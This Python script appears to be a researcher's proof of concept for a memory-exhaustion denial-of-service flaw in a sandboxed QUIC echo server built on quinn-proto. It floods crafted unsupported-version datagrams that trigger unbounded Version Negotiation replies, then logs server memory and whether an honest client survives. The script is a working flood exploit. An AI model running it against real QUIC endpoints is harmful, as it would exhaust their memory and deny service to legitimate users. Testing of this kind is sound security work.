"""QUIC echo server: datagrams that make quinn-proto's endpoint answer (Version Negotiation) pile up in
the guest when the peer does not read its message stream (`Link::responses` has no bound, and
`Pipe::service` keeps reading datagrams while its sends would block).

usage: quic_vn.py MODE PIPES DUR
  MODE vn       : 1200-byte long-header datagrams of an unsupported version (0x0a0a0a0a): each one is
                  answered with a ~80-byte Version Negotiation packet
  MODE baseline : the same datagrams with version 1 and the Handshake type, for no connection:
                  dropped without an answer (same bytes, same host path)
  MODE vnread   : as vn, but the peer reads (and drops) what it is sent
  MODE vnconn   : as vn, on one pipe that first completes a QUIC handshake (aioquic) and keeps its
                  connection alive with a PING a second, so the pipe's 10 s start timeout does not apply
PIPES message streams in parallel (each pipe lives 10 s without a QUIC connection: the idle timeout),
DUR seconds in all. Prints the server's RSS every second, the guest's fate and a control client."""
import sys, os, time, threading, socket, subprocess
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *

MODE, PIPES, DUR = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
fh = open(os.path.join(OUT, f"quic_vn_{MODE}_{PIPES}{'_node' if os.environ.get('HOST') == 'node' else ''}{'_victim' if os.environ.get('VICTIM') else ''}.txt"), "w")


def datagram(mode, i):
    dcid, scid = os.urandom(20), os.urandom(20)
    if mode.startswith("vn"):
        first, version = 0xC0, 0x0a0a0a0a           # long header, unsupported version
    else:
        first, version = 0xE0, 0x00000001           # long header, v1, Handshake packet type
    d = bytes([first]) + version.to_bytes(4, "big") + bytes([20]) + dcid + bytes([20]) + scid
    return d + os.urandom(1200 - len(d))


p, port = start_quic_server()
time.sleep(0.5)
log(fh, f"mode {MODE} pipes {PIPES} dur {DUR}s; server pid {p.pid} port {port}")
log(fh, "before:", p.status(), "control:", quic_control(port))
base = p.status()
victim = None
if os.environ.get("VICTIM"):
    # an honest client in the middle of a long exchange when the attack starts
    cert, _ = quic_identity()
    victim = subprocess.Popen([TETHER, "run", f"{BIN}/quic-echo.wasm", "--allow", f"127.0.0.1:{port}", "--", "client",
                               f"ws://127.0.0.1:{port}/", "--ca", cert, "rtt:100000:32"],
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    time.sleep(1.0)
stop = time.time() + DUR
sent = [0] * PIPES


def attacker_conn(k):
    from aioquic.quic.configuration import QuicConfiguration
    from aioquic.quic.connection import QuicConnection
    from aioquic.quic.events import HandshakeCompleted
    import ssl
    ws = WS(port)
    c = QuicConfiguration(is_client=True, alpn_protocols=["tether-quic-echo"], server_name="localhost",
                          verify_mode=ssl.CERT_NONE, idle_timeout=300)
    q = QuicConnection(configuration=c); q.connect(("127.0.0.1", 0), now=time.time())
    done = False; t0 = time.time()
    while not done and time.time() - t0 < 10:
        for dg, _ in q.datagrams_to_send(now=time.time()): ws.send(dg)
        for m in ws.recv_all(0.02):
            if m is not None: q.receive_datagram(m, ("127.0.0.1", 0), now=time.time())
        ev = q.next_event()
        while ev:
            done = done or isinstance(ev, HandshakeCompleted); ev = q.next_event()
    for dg, _ in q.datagrams_to_send(now=time.time()): ws.send(dg)
    log(fh, "  handshake done:", done)
    frames = b"".join(ws_frame(datagram("vn", i)) for i in range(2000))
    ws.s.setblocking(True); ws.s.settimeout(0.5); last = 0
    while time.time() < stop and p.alive():
        if time.time() - last > 1:
            last = time.time(); q.send_ping(int(last))
            try:
                for dg, _ in q.datagrams_to_send(now=time.time()): ws.s.sendall(ws_frame(dg))
            except (socket.timeout, OSError):
                pass
        try:
            ws.s.sendall(frames); sent[k] += 2000
        except (socket.timeout, OSError):
            pass


def attacker(k):
    if MODE == "vnconn":
        return attacker_conn(k)
    frames = b"".join(ws_frame(datagram(MODE, i)) for i in range(2000))   # 2.4 MB of frames
    while time.time() < stop and p.alive():
        try:
            ws = WS(port)
        except Exception as e:
            time.sleep(0.2); continue
        ws.s.setblocking(True); ws.s.settimeout(0.5)
        born = time.time()
        try:
            while time.time() < stop and time.time() - born < 9.5 and p.alive():
                try:
                    ws.s.sendall(frames); sent[k] += 2000
                except socket.timeout:
                    pass
                if MODE == "vnread":
                    ws.s.settimeout(0)
                    try:
                        while ws.s.recv(1 << 20): pass
                    except (BlockingIOError, OSError): pass
                    ws.s.settimeout(0.5)
        except OSError:
            pass
        ws.s.close()


ts = [threading.Thread(target=attacker, args=(k,), daemon=True) for k in range(PIPES)]
t0 = time.time()
for t in ts: t.start()
while time.time() < stop and p.alive():
    time.sleep(1)
    log(fh, f"  t={time.time()-t0:4.1f}s datagrams sent {sum(sent):>9} ({sum(sent)*1200>>20} MiB) server {p.status()}")
for t in ts: t.join(5)
time.sleep(1)
log(fh, "after:", p.status(), "control:", quic_control(port) if p.alive() else "-")
if victim:
    try: vo = victim.communicate(timeout=60)[0].decode(errors="replace")
    except subprocess.TimeoutExpired: victim.kill(); vo = "TIMEOUT"
    log(fh, f"honest client (rtt:100000:32, started before the attack): rc={victim.returncode}",
        [l[:160] for l in vo.splitlines() if not l.startswith("rtt ")][-3:])
log(fh, "server output tail:", [l[:200] for l in p.out[-4:]])
p.kill()
